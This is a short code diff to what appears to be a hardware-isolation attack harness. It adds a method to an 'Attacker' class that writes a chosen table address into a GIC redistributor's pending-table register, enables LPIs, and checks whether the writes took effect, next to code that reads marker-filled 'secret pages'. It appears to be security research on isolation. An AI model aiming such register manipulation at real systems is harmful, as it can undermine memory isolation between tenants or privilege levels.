@@ -11,6 +11,9 @@ from flexkit.link.client import Client
 
 _DEFINE = re.compile(r"^#define (FLEX_\w+) \(?([^/\n]*?)\)?\s*(?:/\*.*)?$", re.MULTILINE)
 PATTERN = 0xC0FFEE0000000000
+LPIS_ON = 1
+"""GICR_CTLR.EnableLPIs."""
+_PENDBASER = 0x78
 """What secret pages are filled with; the number of the word is added."""
 _DEBUGFS = "/sys/kernel/debug/flexattack"
 
@@ -68,3 +71,11 @@ class Attacker:
         text = self.client.check("cat /sys/kernel/debug/flexserve/pages", Deadline(self.seconds, "pages"))
         rows = [line.split() for line in text.splitlines()]
         return [int(row[1], 0) for row in rows if len(row) >= 2 and row[1].startswith("0x")]
+
+    def aim_redistributor(self, frame: int, core: int, address: int) -> bool:
+        """Write a table's address and "LPIs on" to a redistributor's first frame: has any of it come to be?"""
+        pending = self.run(f"access r {frame + _PENDBASER:#x} {core}")["value"]
+        assert self.run(f"access w {frame + _PENDBASER:#x} {core} {address:#x}")["ret"] == 0
+        assert self.run(f"access w4 {frame:#x} {core} {LPIS_ON:#x}")["ret"] == 0
+        moved = self.run(f"access r {frame + _PENDBASER:#x} {core}")["value"] != pending
+        return moved or bool(self.run(f"access r4 {frame:#x} {core}")["value"] & LPIS_ON)
